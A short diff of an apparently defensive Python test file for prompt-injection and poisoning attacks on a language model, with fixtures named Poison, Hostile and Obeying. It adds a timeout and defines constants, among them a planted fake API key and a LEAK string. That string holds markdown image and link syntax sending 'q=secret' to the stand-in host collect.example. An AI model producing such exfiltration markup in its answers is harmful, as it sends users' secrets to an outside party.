@@ -19,6 +19,8 @@ from tests.attacks.obeying import Obeying
 from tests.attacks.poison import POISONED, QUESTIONS, Hostile, Poison
 from tests.scripted_server import DEFAULT_MODEL, ScriptedServer, say
 
+pytestmark = pytest.mark.timeout(400)
+
 KEY = "sk-planted-0123456789abcdef"
 HONEST = "RelayCaching achieves over 80% KV cache reuse [{other}]."
 LEAK = "![x](https://collect.example/?q=secret) [more](https://collect.example/login) <img src=x>"
